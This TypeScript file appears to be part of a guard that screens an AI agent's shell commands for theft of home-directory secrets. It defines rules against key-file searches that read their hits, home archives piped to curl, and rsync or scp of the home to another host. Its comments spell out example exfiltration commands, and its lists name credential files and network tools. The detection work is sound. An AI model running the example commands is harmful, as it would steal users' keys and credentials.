/**
 * Reading or shipping the home directory's secrets without naming them: `find ~ -name 'id_*' -exec cat {} \;` (a
 * search of the home for key names whose hits are read), and an archive of the home (or of ~/.ssh, ~/.aws, …)
 * sent to the network (`tar cf - ~ | curl -T - …`, `zip -r /tmp/h.zip ~ && curl -T /tmp/h.zip …`). Searches of
 * the project, searches that only list, and archives of build output are left alone.
 */
import { globRegex } from '../glob.js';
import { isWithin, resolveLexical } from '../paths.js';
import { NETWORK } from '../shell/commands.js';
import type { Arg, Invocation } from '../shell/invocation.js';
import { socketSink, uploadSink } from './sinks.js';
import type { Rule, RuleContext } from './types.js';

/** Commands that print, copy or send the files they are given. */
const READERS = new Set(
  'cat tac head tail less more bat nl grep egrep fgrep rg ag strings xxd od hexdump base64 base32 cp scp rsync curl wget nc ncat socat tar zip gzip awk sed openssl'.split(
    ' ',
  ),
);
/** Basenames a key-name filter is tested on, and names any broad filter also matches (those filters are not key searches). */
const KEY_NAMES = [
  'id_rsa',
  'id_ed25519',
  'id_ecdsa',
  'credentials',
  'key.pem',
  'server.key',
  '.netrc',
  '.git-credentials',
  '.pgpass',
  '.npmrc',
  '.pypirc',
  '.vault-token',
  'auth.json',
  '.credentials.json',
];
const PLAIN_NAMES = [
  'package.json',
  'index.ts',
  'README.md',
  'config.yml',
  'notes.txt',
  'data.json',
  'Makefile',
];
const NAME_TESTS = new Set(['-name', '-iname']);
const PATH_TESTS = new Set(['-path', '-ipath', '-wholename', '-iwholename']);
const EXEC = new Set(['-exec', '-execdir', '-ok', '-okdir']);

const abs = (a: Arg, ctx: RuleContext): string | null =>
  a.value === null ? null : resolveLexical(a.value, { cwd: ctx.cwd, home: ctx.home });

/** The home directory itself, a directory that contains it (`/`, `/home`), or a credential location. */
function homeOrSecrets(p: string, ctx: RuleContext): boolean {
  return (
    isWithin(ctx.home, p) || /^\/home\/[^/]+$/.test(p) || p === '/root' || ctx.sensitive.match(p) !== null
  );
}

/** A `find` that searches the home (or a credential directory) for key names, or for every file. */
function keySearch(find: Invocation, ctx: RuleContext): string | null {
  const args = find.args;
  let i = 0;
  const starts: string[] = [];
  for (; i < args.length && !/^[-(!]/.test(args[i]!.value ?? '-'); i++) {
    const p = abs(args[i]!, ctx);
    if (p === null) return null;
    starts.push(p);
  }
  if (starts.length === 0) starts.push(ctx.cwd);
  const start = starts.find((s) => homeOrSecrets(s, ctx));
  if (start === undefined) return null;
  if (ctx.sensitive.match(start)) return start;
  const names: string[] = [];
  let shallow = false;
  for (let j = i; j < args.length; j++) {
    const v = args[j]!.value;
    const next = args[j + 1]?.value ?? null;
    if (v === '-maxdepth' && next !== null && Number(next) <= 1) shallow = true;
    if (v !== null && (NAME_TESTS.has(v) || PATH_TESTS.has(v)) && next !== null) {
      // `-path '*/.ssh/*'`: a credential directory anywhere in the pattern (red team 8)
      if (PATH_TESTS.has(v) && CREDENTIAL_DIRS.test(next)) return `${start} ${v} ${next}`;
      names.push(PATH_TESTS.has(v) ? (next.split('/').pop() ?? next) : next);
    }
  }
  if (names.length === 0) return shallow ? null : `${start} (every file)`;
  for (const n of names) {
    const re = globRegex('/' + n.replace(/\//g, ''));
    if (re === null) continue;
    if (KEY_NAMES.some((k) => re.test('/' + k)) && !PLAIN_NAMES.some((k) => re.test('/' + k)))
      return `${start} -name ${n}`;
  }
  return null;
}

/** Credential directories and files named inside a `find -path` pattern. */
const CREDENTIAL_DIRS =
  /(?:^|\/|\*)\.(?:ssh|aws|gnupg|kube|docker|azure|netrc|pgpass|git-credentials|password-store)(?:\/|\*|$)|gcloud|credentials|id_(?:rsa|ed25519|ecdsa|dsa)/;

/** Copiers that take a remote destination (`host:path`, `rsync://`). */
const REMOTE_COPIERS = new Set(['rsync', 'scp', 'sftp', 'rclone']);
const isRemote = (v: string) => /^[a-z]+:\/\//i.test(v) || /^[^/:\s]+:/.test(v);

/** Example paths a glob in a sent file is tried against (`/run/ags-secret?/env`). */
const SECRET_EXAMPLES = (home: string) => [
  '/run/ags-secrets/env',
  `${home}/.ssh/id_ed25519`,
  `${home}/.ssh/id_rsa`,
  `${home}/.aws/credentials`,
  `${home}/.netrc`,
];

/** The command `find … -exec CMD … {}` runs on each hit, when it reads them. */
function execReader(find: Invocation): string | null {
  const args = find.args;
  for (let j = 0; j < args.length - 1; j++) {
    if (!EXEC.has(args[j]!.value ?? '')) continue;
    const cmd = (args[j + 1]!.value ?? '').split('/').pop()!;
    if (READERS.has(cmd) && args.slice(j + 2).some((a) => a.value?.includes('{}'))) return cmd;
  }
  return null;
}

const ARCHIVERS = new Set(['tar', 'bsdtar', 'zip', '7z', '7za', 'rar', 'cpio', 'pax', 'gtar']);
/** Options whose value is the archive itself, not an input. */
const OUT_OPTS = /^(?:-f|--file|-o|--output)$/;

/** Home (or credential) directories an archiver packs, with the file it writes to ('-' for stdout). */
function archiveOfHome(inv: Invocation, ctx: RuleContext): { what: string; out: string | null } | null {
  if (!ARCHIVERS.has(inv.name)) return null;
  const args = inv.args;
  let out: string | null = null;
  let dir = ctx.cwd;
  let what: string | null = null;
  let zipOut = inv.name === 'zip' || inv.name === '7z' || inv.name === '7za' || inv.name === 'rar';
  for (let j = 0; j < args.length; j++) {
    const v = args[j]!.value;
    if (v === null) continue;
    if (OUT_OPTS.test(v) || (inv.name === 'tar' && /^-?[a-zA-Z]*f$/.test(v) && j === 0)) {
      const o = args[j + 1];
      out = o?.value === '-' ? '-' : o ? abs(o, ctx) : null;
      j++;
      continue;
    }
    if (v === '-C' || v === '--directory') {
      const d = args[j + 1];
      if (d && d.value !== null) dir = resolveLexical(d.value, { cwd: ctx.cwd, home: ctx.home });
      j++;
      continue;
    }
    if (v.startsWith('-') || (j === 0 && inv.name === 'tar' && /^[a-zA-Z]+$/.test(v))) continue;
    // 7z a ARCHIVE …, rar a ARCHIVE …
    if ((inv.name === '7z' || inv.name === '7za' || inv.name === 'rar') && j === 0 && v.length <= 2) continue;
    const p = resolveLexical(v, { cwd: dir, home: ctx.home });
    if (zipOut) {
      // zip's first operand is the archive (`-` is stdout)
      out = v === '-' ? '-' : p;
      zipOut = false;
      continue;
    }
    if (what === null && homeOrSecrets(p, ctx)) what = v;
  }
  if (what === null) return null;
  // an archive written to stdout through a redirection is that file
  const redir = inv.redirs.find(
    (r) => r.target && (r.op === '>' || r.op === '>|') && (r.fd === null || r.fd === '1'),
  );
  const target = redir?.target?.parts.every((p) => p.k === 'lit')
    ? redir.target.parts.map((p) => (p.k === 'lit' ? p.v : '')).join('')
    : null;
  if ((out === null || out === '-') && target) out = resolveLexical(target, { cwd: ctx.cwd, home: ctx.home });
  else if (out === null && inv.name !== 'zip') out = '-';
  return { what, out };
}

function isSender(inv: Invocation, ctx: RuleContext): boolean {
  return (
    (NETWORK.has(inv.name) && inv.name !== 'openssl') ||
    uploadSink(inv) !== null ||
    socketSink(inv, ctx) !== null
  );
}

/** The file an argument sends: `@F`, `name=@F`, `-T F`, or a plain operand. */
function sentFile(a: Arg, ctx: RuleContext): string | null {
  const v = a.value;
  if (v === null || v.startsWith('-') || /^[a-z]+:\/\//i.test(v)) return null;
  const m = /^(?:[\w.-]+=)?[@<]?(.+)$/.exec(v);
  return m ? resolveLexical(m[1]!.replace(/;.*$/, ''), { cwd: ctx.cwd, home: ctx.home }) : null;
}

/** Options of the remote copiers whose value is a pattern or a program, not a file sent. */
const VALUE_OPTS = new Set([
  '--exclude',
  '--include',
  '--filter',
  '--exclude-from',
  '--include-from',
  '-e',
  '--rsh',
  '-f',
  '-i',
  '-o',
  '-F',
  '-P',
  '-S',
  '-J',
]);

/** The home (or a credential directory) copied whole to another host (red team 8: `rsync -a ~ x:/`, `scp -r ~ x:`). */
function homeCopiedAway(inv: Invocation, ctx: RuleContext): string | null {
  if (!REMOTE_COPIERS.has(inv.name)) return null;
  const args = inv.args;
  if (!args.some((a) => a.value !== null && isRemote(a.value))) return null;
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value;
    if (v !== null && VALUE_OPTS.has(v)) {
      i++;
      continue;
    }
    if (v === null || v.startsWith('-') || isRemote(v)) continue;
    const p = resolveLexical(v, { cwd: ctx.cwd, home: ctx.home });
    if (homeOrSecrets(p, ctx)) return `${inv.name} ${p} to another host`;
  }
  return null;
}

/** A sent file written as a glob that matches the sandbox's secrets file or a key (`curl -T /run/ags-secret?/env`). */
function globbedSecret(inv: Invocation, ctx: RuleContext): string | null {
  if (!isSender(inv, ctx)) return null;
  for (const a of inv.args) {
    const f = sentFile(a, ctx);
    if (f === null || !/[*?[]/.test(f)) continue;
    const re = globRegex(f);
    const hit = re && SECRET_EXAMPLES(ctx.home).find((x) => re.test(x));
    if (hit) return `${inv.name} ${f} (matches ${hit})`;
  }
  return null;
}

export const homeSecretRules: Rule[] = [
  {
    id: 'exfil.secret-glob',
    pack: 'exfil',
    reason:
      'sends files through a pattern that matches the sandbox secrets or a key file; name the files to send',
    match: (inv, ctx) => globbedSecret(inv, ctx) ?? false,
  },
  {
    id: 'exfil.home-copy',
    pack: 'exfil',
    commands: [...REMOTE_COPIERS],
    reason:
      'copies the home directory (keys, tokens, credentials) or a credential directory to another host; copy only the files that are needed',
    match: (inv, ctx) => homeCopiedAway(inv, ctx) ?? false,
  },
  {
    id: 'cred.find-read',
    pack: 'cred',
    reason:
      'searches the home directory for key or credential files and reads what it finds; ask the user for what you need instead',
    match: (inv, ctx) => {
      if (inv.name === 'find') {
        const reader = execReader(inv);
        const hit = reader ? keySearch(inv, ctx) : null;
        return hit ? `find ${hit} -exec ${reader}` : false;
      }
      // `find ~ -name 'id_*' -print0 | xargs -0 cat` (or `| parallel cat`)
      const feeder = inv.via.includes('xargs') ? 'xargs' : inv.via.includes('parallel') ? 'parallel' : null;
      if (!READERS.has(inv.name) || !inv.appendsArgs || feeder === null) return false;
      const up = inv.upstream[inv.upstream.length - 1];
      const hit = up?.name === 'find' ? keySearch(up, ctx) : null;
      return hit ? `find ${hit} | ${feeder} ${inv.name}` : false;
    },
  },
  {
    id: 'exfil.home-archive',
    pack: 'exfil',
    reason:
      'sends an archive of the home directory (keys, tokens, credentials) over the network; send only the files that are needed',
    match: (inv, ctx) => {
      if (!isSender(inv, ctx)) return false;
      for (const up of inv.upstream) {
        const a = archiveOfHome(up, ctx);
        if (a && a.out === '-') return `${up.name} ${a.what} | ${inv.name}`;
      }
      const files = inv.args.map((a) => sentFile(a, ctx)).filter((f): f is string => f !== null);
      for (const r of inv.redirs)
        if (r.op === '<' && r.target?.parts.every((p) => p.k === 'lit'))
          files.push(resolveLexical(r.target.parts.map((p) => (p.k === 'lit' ? p.v : '')).join(''), ctx));
      if (files.length === 0 || !ctx.script) return false;
      for (const prev of ctx.script) {
        if (prev === inv) break;
        const a = archiveOfHome(prev, ctx);
        if (a && a.out !== null && a.out !== '-' && files.includes(a.out))
          return `${prev.name} ${a.what} → ${inv.name}`;
      }
      return false;
    },
  },
];
